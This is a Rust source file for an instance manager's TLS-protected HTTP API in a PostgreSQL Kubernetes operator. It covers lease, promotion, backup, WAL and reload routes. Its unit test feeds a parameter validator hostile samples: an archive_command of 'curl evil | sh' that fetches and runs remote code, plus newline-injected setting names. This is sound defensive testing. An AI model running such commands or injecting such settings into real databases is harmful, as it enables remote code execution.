//! The instance manager's HTTP API, which the operator drives it with. The bodies are
//! `crate::instance_api`'s types, shared with the operator.
//!
//! - `GET /healthz`: the manager is alive.
//! - `GET /readyz`: the server accepts connections in its role (200) or not (503).
//! - `GET /status`: a `StatusReport`.
//! - `POST /lease`: renew the primary lease (`LeaseGrant`).
//! - `POST /promote` (`PromoteRequest`), `POST /demote`, `POST /fence`
//!   (`FenceRequest`), `POST /restart`, `POST /reload` (`ReloadRequest`).
//! - `POST /backup` (`BackupRequest`): start a base backup in the background;
//!   `GET /backup/{id}`: its `BackupReport` (404 once the manager no longer knows it);
//!   `POST /switch-wal`: on a primary, close the current WAL segment so that it is
//!   archived (a replica's backup waits for it); `POST /checkpoint`: on a primary,
//!   run a checkpoint and answer where its record is, which a replica's backup
//!   then starts from (both answer an `LsnResponse`).
//!
//! It is served over TLS that requires the operator's client certificate ([`serve`],
//! configured by `crate::pki::tls`): the handshake refuses every other caller, so no
//! route can be left open by mistake. The kubelet's probes get a second, plain-HTTP
//! port ([`serve_probes`]) with `/healthz` and `/readyz` only, which change nothing
//! and tell no more than whether the instance is ready in its role.
//!
//! Handlers only read state, renew the lease, or queue a request for the supervisor:
//! they never start or stop the server themselves.

use std::sync::Arc;
use std::time::Duration;

use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::{get, post};
use axum::{Json, Router};
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio::sync::oneshot;
use tokio_rustls::TlsAcceptor;
use tracing::Instrument;

use super::{Request, Shared, database};
use crate::instance_api::{
    BackupRequest, FenceRequest, LeaseRequest, LeaseResponse, LsnResponse, PromoteRequest,
    ReloadRequest, RestoreRequest, RunningRole, StatusReport,
};

type Response = (StatusCode, Json<Value>);

/// How long a client may take to finish the TLS handshake before it is dropped.
const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);

/// Serves the API to the operator only: every connection must complete a TLS
/// handshake with a client certificate `tls` accepts before any request is read.
pub async fn serve(listener: TcpListener, tls: Arc<rustls::ServerConfig>, shared: Arc<Shared>) {
    let app = Router::new()
        .route("/healthz", get(|| async { "ok" }))
        .route("/readyz", get(readyz))
        .route("/status", get(status))
        .route("/lease", post(lease))
        .route("/promote", post(promote))
        .route("/demote", post(demote))
        .route("/fence", post(fence))
        .route("/restart", post(restart))
        .route("/reload", post(reload))
        .route("/backup", post(backup))
        .route("/backup/{id}", get(backup_report))
        .route("/switch-wal", post(switch_wal))
        .route("/checkpoint", post(checkpoint))
        .route("/restore", post(restore))
        .layer(axum::middleware::from_fn(traced))
        .with_state(shared);
    let acceptor = TlsAcceptor::from(tls);
    loop {
        let (stream, peer) = match listener.accept().await {
            Ok(accepted) => accepted,
            Err(error) => {
                // Out of file descriptors, usually: wait rather than spin.
                tracing::warn!(%error, "accepting a connection to the instance API");
                tokio::time::sleep(Duration::from_millis(100)).await;
                continue;
            }
        };
        let (acceptor, app) = (acceptor.clone(), app.clone());
        // Each connection on its own task, so a slow handshake holds up no other.
        tokio::spawn(async move {
            let stream = match tokio::time::timeout(HANDSHAKE_TIMEOUT, acceptor.accept(stream))
                .await
            {
                Ok(Ok(stream)) => stream,
                Ok(Err(error)) => {
                    tracing::warn!(%peer, %error, "refused a connection to the instance API");
                    return;
                }
                Err(_) => {
                    tracing::warn!(%peer, "dropped a connection to the instance API: no TLS handshake within 10s");
                    return;
                }
            };
            let service = hyper_util::service::TowerToHyperService::new(app);
            if let Err(error) = http(IDLE_LIMIT)
                .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                .await
            {
                tracing::debug!(%peer, %error, "an instance API connection ended with an error");
            }
        });
    }
}

/// A connection that sends no request for this long is closed. The operator keeps one
/// connection per instance and reads the status over it every second (closing it
/// itself within a minute); one whose operator vanished without closing it (a
/// partition, a node lost) would otherwise stay open here for good.
const IDLE_LIMIT: Duration = Duration::from_secs(30);

/// The HTTP/1.1 server of one connection: keep-alive, closed after `idle` without a
/// request (hyper's header read timeout runs from when it waits for the next request).
fn http(idle: Duration) -> hyper::server::conn::http1::Builder {
    let mut http = hyper::server::conn::http1::Builder::new();
    http.timer(hyper_util::rt::TokioTimer::new())
        .header_read_timeout(idle);
    http
}

/// Serves the kubelet's probes in plain HTTP: `/healthz`, and `/readyz` with only the
/// verdict (the details are in `/status`, for the operator).
pub async fn serve_probes(listener: TcpListener, shared: Arc<Shared>) {
    let app = Router::new()
        .route("/healthz", get(|| async { "ok" }))
        .route("/readyz", get(probe_readyz))
        .with_state(shared);
    if let Err(error) = axum::serve(listener, app).await {
        tracing::error!(%error, "the probe endpoint stopped serving");
    }
}

/// Every request runs in a span that continues the caller's trace (the operator sends
/// `traceparent`), so one operation is one trace across the two processes.
async fn traced(
    request: axum::extract::Request,
    next: axum::middleware::Next,
) -> axum::response::Response {
    let span = tracing::info_span!(
        "instance api request",
        method = %request.method(),
        path = %request.uri().path(),
    );
    crate::telemetry::extract(&span, request.headers());
    next.run(request).instrument(span).await
}

/// The instance's report, and whether it is ready in its role.
async fn observe(shared: &Shared) -> (bool, StatusReport) {
    let published = shared.published.borrow().clone();
    let mut report = StatusReport {
        instance: shared.instance_name.clone(),
        role: published.role,
        ready: false,
        fenced: published.fenced,
        lease_remaining_ms: shared
            .lease_remaining()
            .map(|left| u64::try_from(left.as_millis()).unwrap_or(u64::MAX)),
        problem: published.problem,
        parameters: published.parameters,
        refused_parameters: published.refused_parameters,
        server: None,
        error: None,
        archive: shared.archive.report(),
        restoring: published.restoring,
        verification: published.verification,
        tls: Some(published.tls),
        access: Some(published.access),
        release: Some(published.release),
        certificates: published.certificates,
        analyze: shared.analyze.borrow().clone(),
    };
    if !published.running {
        report.error = Some("postgres is not running".to_owned());
        return (false, report);
    }
    let observed =
        tokio::time::timeout(Duration::from_secs(3), database::status(&shared.pool)).await;
    match observed {
        Ok(Ok(server)) => {
            report.ready = match published.role {
                Some(RunningRole::Primary) => !server.in_recovery,
                Some(RunningRole::Replica) => server.in_recovery,
                None => false,
            };
            report.server = Some(server);
        }
        Ok(Err(error)) => report.error = Some(error.to_string()),
        Err(_) => report.error = Some("the server did not answer within 3s".to_owned()),
    }
    (report.ready, report)
}

async fn readyz(State(shared): State<Arc<Shared>>) -> Response {
    let (ready, report) = observe(&shared).await;
    let code = if ready {
        StatusCode::OK
    } else {
        StatusCode::SERVICE_UNAVAILABLE
    };
    (code, Json(json!(report)))
}

async fn probe_readyz(State(shared): State<Arc<Shared>>) -> Response {
    let (ready, body) = observe(&shared).await;
    let code = if ready {
        StatusCode::OK
    } else {
        StatusCode::SERVICE_UNAVAILABLE
    };
    let verdict = json!({"instance": body.instance, "role": body.role, "ready": ready});
    (code, Json(verdict))
}

async fn status(State(shared): State<Arc<Shared>>) -> Response {
    let (_, report) = observe(&shared).await;
    (StatusCode::OK, Json(json!(report)))
}

async fn submit(shared: &Shared, request: Request) -> Response {
    let (reply, outcome) = oneshot::channel();
    if shared.requests.send((request, reply)).await.is_err() {
        return (
            StatusCode::SERVICE_UNAVAILABLE,
            Json(json!({"error": "the instance manager is shutting down"})),
        );
    }
    match outcome.await {
        Ok(Ok(body)) => (StatusCode::OK, Json(body)),
        Ok(Err(error)) => (
            StatusCode::INTERNAL_SERVER_ERROR,
            Json(json!({"error": error})),
        ),
        Err(_) => (
            StatusCode::INTERNAL_SERVER_ERROR,
            Json(json!({"error": "the request was dropped"})),
        ),
    }
}

async fn backup(State(shared): State<Arc<Shared>>, Json(request): Json<BackupRequest>) -> Response {
    let published = shared.published.borrow().clone();
    if !published.running || published.role.is_none() {
        return (
            StatusCode::CONFLICT,
            Json(json!({"error": "postgres is not running here: no backup can be taken"})),
        );
    }
    let standby = published.role == Some(RunningRole::Replica);
    match shared.backups.start(request, standby) {
        Ok(report) => (StatusCode::ACCEPTED, Json(json!(report))),
        Err(error) => (StatusCode::CONFLICT, Json(json!({"error": error}))),
    }
}

async fn backup_report(
    State(shared): State<Arc<Shared>>,
    axum::extract::Path(id): axum::extract::Path<String>,
) -> Response {
    match shared.backups.report(&id) {
        Some(report) => (StatusCode::OK, Json(json!(report))),
        None => (
            StatusCode::NOT_FOUND,
            Json(
                json!({"error": format!("this instance manager knows no backup {id} (it may have restarted since)")}),
            ),
        ),
    }
}

async fn restore(
    State(shared): State<Arc<Shared>>,
    Json(request): Json<RestoreRequest>,
) -> Response {
    submit(&shared, Request::Restore(Box::new(request))).await
}

async fn switch_wal(State(shared): State<Arc<Shared>>) -> Response {
    on_primary(
        &shared,
        "switches WAL segments",
        database::switch_wal(&shared.pool),
    )
    .await
}

async fn checkpoint(State(shared): State<Arc<Shared>>) -> Response {
    on_primary(
        &shared,
        "is asked for a checkpoint",
        database::checkpoint(&shared.pool),
    )
    .await
}

/// Runs `work` on a primary (refused elsewhere); answers `{"lsn": …}` with its result.
async fn on_primary(
    shared: &Shared,
    only: &str,
    work: impl Future<Output = Result<String, database::DatabaseError>>,
) -> Response {
    if shared.published.borrow().role != Some(RunningRole::Primary) {
        return (
            StatusCode::CONFLICT,
            Json(json!({"error": format!("only a primary {only}")})),
        );
    }
    match work.await {
        Ok(lsn) => (StatusCode::OK, Json(json!(LsnResponse { lsn }))),
        Err(error) => (
            StatusCode::INTERNAL_SERVER_ERROR,
            Json(json!({"error": error.to_string()})),
        ),
    }
}

async fn lease(State(shared): State<Arc<Shared>>, Json(grant): Json<LeaseRequest>) -> Response {
    match shared.renew(&grant) {
        Some(remaining) => (
            StatusCode::OK,
            Json(json!(LeaseResponse {
                remaining_ms: u64::try_from(remaining.as_millis()).unwrap_or(u64::MAX),
            })),
        ),
        // A grant that arrives after its end (delayed, or from a paused operator)
        // grants nothing.
        None => (
            StatusCode::CONFLICT,
            Json(json!({"error": "the lease grant had already ended when it arrived"})),
        ),
    }
}

async fn promote(
    State(shared): State<Arc<Shared>>,
    Json(request): Json<PromoteRequest>,
) -> Response {
    submit(&shared, Request::Promote(request)).await
}

async fn demote(State(shared): State<Arc<Shared>>) -> Response {
    submit(&shared, Request::Demote).await
}

async fn fence(State(shared): State<Arc<Shared>>, Json(request): Json<FenceRequest>) -> Response {
    submit(&shared, Request::Fence(request.fenced)).await
}

async fn restart(State(shared): State<Arc<Shared>>) -> Response {
    submit(&shared, Request::Restart).await
}

/// Why each of `parameters` cannot be written to the configuration: a malformed name,
/// a value that would break the file, or a setting Castellan owns.
fn refused(parameters: &std::collections::BTreeMap<String, String>) -> Vec<String> {
    use castellan_crds::database_cluster::parameter_problem;
    parameters
        .iter()
        .filter_map(|(name, value)| parameter_problem(name, value))
        .collect()
}

async fn reload(State(shared): State<Arc<Shared>>, Json(body): Json<ReloadRequest>) -> Response {
    // Admission refuses these already; this is the second line, for a request that did
    // not come through a DatabaseCluster (archive_command runs any shell command, a
    // line break in a name writes any setting).
    let mut refused = body.parameters.as_ref().map(refused).unwrap_or_default();
    // The same for the user's pg_hba lines: one PostgreSQL cannot load stops its next
    // start.
    if let Some(access) = &body.access {
        refused.extend(castellan_crds::pg_hba::rules_problems(&access.hba));
    }
    if !refused.is_empty() {
        return (
            StatusCode::BAD_REQUEST,
            Json(json!({"error": format!("refused to reload: {}", refused.join("; "))})),
        );
    }
    if let Some(config) = &body.archive {
        match shared.archive.apply(config) {
            Ok(true) => {
                tokio::spawn(try_new_archive(shared.clone(), config.fingerprint.clone()));
            }
            Ok(false) => {}
            Err(error) => {
                return (
                    StatusCode::BAD_REQUEST,
                    Json(json!({"error": format!("refused the archive setting: {error}")})),
                );
            }
        }
    }
    submit(
        &shared,
        Request::Reload {
            parameters: body.parameters,
            synchronous_standby_names: body.synchronous_standby_names,
            slots: body.slots,
            access: body.access,
        },
    )
    .await
}

/// How long a new archive setting waits for this instance to run as the primary
/// before it stops waiting to close a segment (a replica never does).
const NEW_ARCHIVE_WAIT: Duration = Duration::from_secs(120);

/// A new object store was put in force: once this instance runs as the primary, close
/// the current WAL segment (`pg_switch_wal`), so that archiving is tried at once and
/// `ContinuousArchiving` says within seconds whether the bucket, its keys and the path
/// to it work, instead of after the next 16 MiB of writes or `archive_timeout`. Only
/// while nothing was archived under that setting; PostgreSQL makes no segment when
/// nothing was written since the last one closed.
async fn try_new_archive(shared: Arc<Shared>, fingerprint: String) {
    let mut published = shared.published.clone();
    let primary = tokio::time::timeout(
        NEW_ARCHIVE_WAIT,
        published.wait_for(|p| p.role == Some(RunningRole::Primary)),
    )
    .await
    .is_ok_and(|seen| seen.is_ok());
    if !primary || !shared.archive.untried(&fingerprint) {
        return;
    }
    match database::switch_wal(&shared.pool).await {
        Ok(lsn) => {
            tracing::info!(%lsn, "closed the WAL segment so that the new archive setting is tried at once");
        }
        Err(error) => {
            tracing::warn!(%error, "closing the WAL segment for the new archive setting");
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    #[tokio::test]
    async fn a_connection_is_kept_between_requests_and_closed_when_idle() {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("listening");
        let bound = listener.local_addr().expect("address");
        let idle = Duration::from_millis(300);
        tokio::spawn(async move {
            let (stream, _) = listener.accept().await.expect("accepted");
            let app = Router::new().route("/status", get(|| async { "ok" }));
            let service = hyper_util::service::TowerToHyperService::new(app);
            let _ = http(idle)
                .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                .await;
        });
        let mut stream = tokio::net::TcpStream::connect(bound)
            .await
            .expect("connected");
        let request = b"GET /status HTTP/1.1\r\nhost: x\r\n\r\n";
        let mut answer = [0u8; 512];
        // Requests closer together than the limit keep the connection.
        for _ in 0..3 {
            stream.write_all(request).await.expect("request");
            let read = stream.read(&mut answer).await.expect("answer");
            assert!(
                answer[..read].starts_with(b"HTTP/1.1 200"),
                "{:?}",
                String::from_utf8_lossy(&answer[..read])
            );
            tokio::time::sleep(idle / 2).await;
        }
        // Then nothing: the server closes it.
        let closed = tokio::time::timeout(idle * 4, stream.read(&mut answer)).await;
        assert!(
            matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
            "the idle connection is closed: {closed:?}"
        );
    }

    #[test]
    fn owned_malformed_and_breaking_parameters_are_refused() {
        let parameters: BTreeMap<String, String> = [
            ("work_mem", "8MB"),
            (" Archive_Command ", "curl evil | sh"),
            ("SSL", "off"),
            ("recovery_end_command", "sh"),
            ("shared_preload_libraries", "evil"),
            ("Include_Dir", "/tmp"),
            ("work_mem\narchive_command", "x"),
            ("search_path", "a\nb"),
            ("auto_explain.log_min_duration", "1s"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
        let refused = refused(&parameters);
        assert_eq!(refused.len(), 7, "{refused:#?}");
        for expected in [
            "parameter \" Archive_Command \" is not a PostgreSQL setting name",
            "parameter Include_Dir is managed by Castellan",
            "parameter SSL is managed by Castellan",
            "parameter recovery_end_command is managed by Castellan",
            "parameter shared_preload_libraries is managed by Castellan",
            "parameter \"work_mem\\narchive_command\" is not a PostgreSQL setting name",
            "the value of parameter search_path holds a line break",
        ] {
            assert!(
                refused.iter().any(|r| r.starts_with(expected)),
                "{expected} in {refused:#?}"
            );
        }
        let harmless = BTreeMap::from([("work_mem".to_owned(), "8MB".to_owned())]);
        assert!(super::refused(&harmless).is_empty());
    }
}
